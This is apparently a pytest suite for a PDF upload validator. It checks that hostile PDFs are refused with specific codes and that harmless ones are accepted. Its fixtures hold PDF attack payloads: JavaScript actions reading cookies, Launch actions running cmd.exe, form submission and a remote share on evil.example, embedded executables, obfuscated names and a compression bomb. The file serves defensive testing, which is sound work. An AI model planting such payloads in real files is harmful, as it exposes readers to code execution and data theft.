"""Active content in PDFs: what is refused (with which code), what is accepted, and the limits that keep a
hostile PDF cheap. Every PDF is written byte by byte by ``samples.pdf`` the way an attacker writes one."""

from __future__ import annotations

import io
import zlib

import pytest
from django.test import override_settings

from storage.exceptions import FileRejected
from storage.filetypes import FileType, FileUse
from storage.pdf import STREAM_MAX_DECODED
from storage.validation import validate_upload
from tests.storage import samples

JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"


def check(data: bytes) -> str | None:
    """The rejection code for ``data`` uploaded as an attachment, or None when it is accepted."""
    try:
        validated = validate_upload(data, declared_name="урок.pdf", declared_type=None, use=FileUse.ATTACHMENT)
    except FileRejected as e:
        assert e.message  # the Russian sentence naming the rule
        return e.code
    assert validated.file_type is FileType.PDF
    assert validated.content.read() == data  # accepted PDFs are stored as they came
    return None


ACCEPTED = {
    "plain": samples.pdf(),
    "open_action_destination": samples.pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
    "open_action_goto": samples.pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /XYZ 0 842 0] >>"),
    "open_action_named_next_page": samples.pdf(catalog=b"/OpenAction << /S /Named /N /NextPage >>"),
    "link_to_a_site": samples.pdf(
        page=b"/Annots [4 0 R]",
        objects={
            4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://resh.edu.ru/) >> >>"
        },
    ),
    "script_words_inside_a_string": samples.pdf(
        catalog=b"/Lang (ru) /PageLabels << /Nums [0 << /P (/JavaScript /JS /Launch) >>] >>"
    ),
    "form_without_scripts": samples.pdf(
        catalog=b"/AcroForm << /Fields [4 0 R] >>",
        objects={4: b"<< /FT /Tx /T (name) /V (Ivanov) >>"},
    ),
    "object_stream_without_scripts": samples.pdf(
        catalog=b"/Outlines 4 0 R", compressed={4: b"<< /Type /Outlines /Count 0 >>"}
    ),
    "owner_password_only": samples.encrypted_pdf(user_password=""),
    "binary_stream": samples.pdf(padding=64 * 1024),
    # qpdf rebuilds the cross-reference of a cut file as a viewer does; what it reads is checked.
    "truncated_in_a_picture": samples.pdf(padding=64 * 1024)[:40_000],
}


@pytest.mark.parametrize("data", ACCEPTED.values(), ids=ACCEPTED.keys())
def test_harmless_pdfs_are_accepted(data: bytes) -> None:
    assert check(data) is None


REFUSED = {
    "open_action_javascript": (samples.pdf(catalog=b"/OpenAction 4 0 R", objects={4: JS_ACTION}), "pdf_javascript"),
    "document_javascript_name_tree": (
        samples.pdf(catalog=b"/Names << /JavaScript << /Names [(init) 4 0 R] >> >>", objects={4: JS_ACTION}),
        "pdf_javascript",
    ),
    "hex_escaped_names": (
        samples.pdf(catalog=b"/Open#41ction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "pdf_javascript",
    ),
    "javascript_in_object_stream": (
        samples.pdf(catalog=b"/OpenAction 4 0 R", compressed={4: JS_ACTION}),
        "pdf_javascript",
    ),
    "escaped_javascript_in_object_stream_unreferenced": (
        samples.pdf(compressed={4: b"<< /S /J#61v#61Script /JS 5 0 R >>", 5: b"(app.launchURL\\('x'\\))"}),
        "pdf_javascript",
    ),
    "javascript_behind_a_link": (
        samples.pdf(
            page=b"/Annots [4 0 R]",
            objects={4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 5 0 R >>", 5: JS_ACTION},
        ),
        "pdf_javascript",
    ),
    "javascript_uri": (
        samples.pdf(
            page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ( JavaScript:alert\\(1\\)) >> >>]"
        ),
        "pdf_javascript",
    ),
    "page_open_script": (samples.pdf(page=b"/AA << /O 4 0 R >>", objects={4: JS_ACTION}), "pdf_javascript"),
    "form_field_keystroke_script": (
        samples.pdf(
            catalog=b"/AcroForm << /Fields [4 0 R] >>",
            objects={4: b"<< /FT /Tx /T (sum) /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\)) >> >> >>"},
        ),
        "pdf_javascript",
    ),
    "script_after_harmless_goto": (
        samples.pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", objects={4: JS_ACTION}),
        "pdf_javascript",
    ),
    "three_d_javascript": (
        samples.pdf(objects={4: b"<< /Type /3D /Subtype /U3D /OnInstantiate 5 0 R >>", 5: b"(x)"}),
        "pdf_javascript",
    ),
    "launch_behind_a_link": (
        samples.pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /Win << /F (cmd.exe) >> >> >>]"),
        "pdf_launch",
    ),
    "launch_escaped_in_object_stream": (
        samples.pdf(catalog=b"/OpenAction 4 0 R", compressed={4: b"<< /S /L#61unch /F (calc.exe) >>"}),
        "pdf_launch",
    ),
    "open_action_uri": (
        samples.pdf(catalog=b"/OpenAction << /S /URI /URI (https://tracker.example/open) >>"),
        "pdf_auto_action",
    ),
    "page_open_submit_form": (
        samples.pdf(page=b"/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>"),
        "pdf_auto_action",
    ),
    "open_action_print": (samples.pdf(catalog=b"/OpenAction << /S /Named /N /Print >>"), "pdf_auto_action"),
    "open_action_remote_file": (
        samples.pdf(catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>"),
        "pdf_auto_action",
    ),
    "embedded_files_name_tree": (
        samples.pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(run.exe) 4 0 R] >> >>",
            objects={
                4: b"<< /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>",
                5: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            },
        ),
        "pdf_embedded_file",
    ),
    "file_attachment_annotation": (
        samples.pdf(page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>]"),
        "pdf_embedded_file",
    ),
    "embedded_file_stream_in_object_stream_filespec": (
        samples.pdf(
            objects={5: b"<< /Length 2 >>\nstream\nMZ\nendstream"},
            compressed={4: b"<< /F (a.exe) /E#46 << /F 5 0 R >> >>"},
        ),
        "pdf_embedded_file",
    ),
    "rich_media": (
        samples.pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]"),
        "pdf_rich_media",
    ),
    "xfa_form": (
        samples.pdf(
            catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>", objects={4: b"<< /Length 7 >>\nstream\n<xdp/>\nendstream"}
        ),
        "pdf_xfa",
    ),
    "user_password": (samples.encrypted_pdf(user_password="секрет"), "pdf_encrypted"),
    "owner_password_hides_script_in_encrypted_object_stream": (
        samples.encrypted_pdf(user_password="", javascript=True),
        "pdf_javascript",
    ),
    "unreadable_object_stream": (
        samples.pdf(catalog=b"/OpenAction 4 0 R", compressed={4: JS_ACTION}, object_stream_data=b"not zlib at all"),
        "pdf_corrupt",
    ),
    "no_trailer": (b"%PDF-1.7\n" + b"garbage " * 200, "pdf_corrupt"),
    "truncated_inside_the_catalog": (samples.pdf()[:40], "pdf_corrupt"),
}


@pytest.mark.parametrize(("data", "code"), REFUSED.values(), ids=REFUSED.keys())
def test_active_content_is_refused_with_its_code(data: bytes, code: str) -> None:
    assert check(data) == code


def test_object_stream_bomb_is_refused_within_the_decoding_limit() -> None:
    # ~40 MiB of spaces after the script, compressed to ~40 KiB: qpdf stops at STREAM_MAX_DECODED.
    data = samples.pdf(
        catalog=b"/OpenAction 4 0 R", compressed={4: JS_ACTION}, object_stream_padding=STREAM_MAX_DECODED + 8 * 1024**2
    )
    assert len(data) < 100 * 1024
    assert check(data) == "pdf_too_complex"


def test_object_streams_together_are_bounded() -> None:
    data = samples.pdf(catalog=b"/Outlines 4 0 R", compressed={4: b"<< /Count 0 >>"}, object_stream_padding=4096)
    with override_settings(STORAGE_POLICY={"PDF_MAX_OBJECT_STREAMS_SIZE": 2048}):
        assert check(data) == "pdf_too_complex"
    with override_settings(STORAGE_POLICY={"PDF_MAX_OBJECT_STREAMS_SIZE": 8192}):
        assert check(data) is None


def test_object_count_is_bounded() -> None:
    data = samples.pdf(objects={n: b"<< /N %d >>" % n for n in range(4, 40)})
    with override_settings(STORAGE_POLICY={"PDF_MAX_OBJECTS": 30}):
        assert check(data) == "pdf_too_complex"
    with override_settings(STORAGE_POLICY={"PDF_MAX_OBJECTS": 40}):
        assert check(data) is None


def test_stream_is_left_open_and_rewound_after_the_check() -> None:
    stream = io.BytesIO(samples.pdf())
    validated = validate_upload(stream, declared_name="a.pdf", declared_type=None, use=FileUse.ATTACHMENT)
    assert validated.content is stream and stream.tell() == 0 and not stream.closed


def test_deflated_script_in_a_page_content_stream_is_only_drawing() -> None:
    """Content streams hold drawing operators; the words /JavaScript there run nothing and are not decoded."""
    content = zlib.compress(b"BT /F1 12 Tf (/JavaScript /Launch) Tj ET")
    data = samples.pdf(
        page=b"/Contents 4 0 R",
        objects={4: b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"},
    )
    assert check(data) is None
